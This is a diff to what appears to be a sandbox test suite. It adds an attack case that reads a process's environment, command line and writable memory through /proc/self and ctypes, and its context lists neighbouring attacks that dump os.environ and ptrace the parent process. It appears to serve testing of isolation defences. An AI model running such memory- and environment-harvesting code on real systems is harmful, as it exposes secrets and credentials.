@@ -283,6 +283,37 @@ print(dict(os.environ))
 """,
     ),
     Attack(
+        "environment-block",
+        "A25",
+        "find what the process began with: environment and command line, in its own memory, too",
+        """
+import ctypes, os, posix
+
+for name in ("environ", "cmdline", "auxv", "mountinfo", "stat"):
+    print(name, open(f"/proc/self/{name}", "rb").read().replace(b"\\0", b" ").strip())
+print(posix.environ)
+pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
+for place in range(100):
+    if pointers[place] is None:
+        break
+    print(pointers[place])
+memory, found = open("/proc/self/mem", "rb", 0), 0
+for line in open("/proc/self/maps"):
+    start, end = (int(text, 16) for text in line.split()[0].split("-"))
+    if line.split()[1].startswith("rw") and found < 500:
+        try:
+            memory.seek(start)
+            data = memory.read(end - start)
+        except OSError:
+            continue
+        place = data.find(b"/usr/bin")
+        while place >= 0 and found < 500:
+            print(data[max(0, place - 200):place + 200])
+            place, found = data.find(b"/usr/bin", place + 200), found + 1
+        del data
+""",
+    ),
+    Attack(
         "parent-memory",
         "A28",
         "ptrace the parent, read and write its memory, open its files",
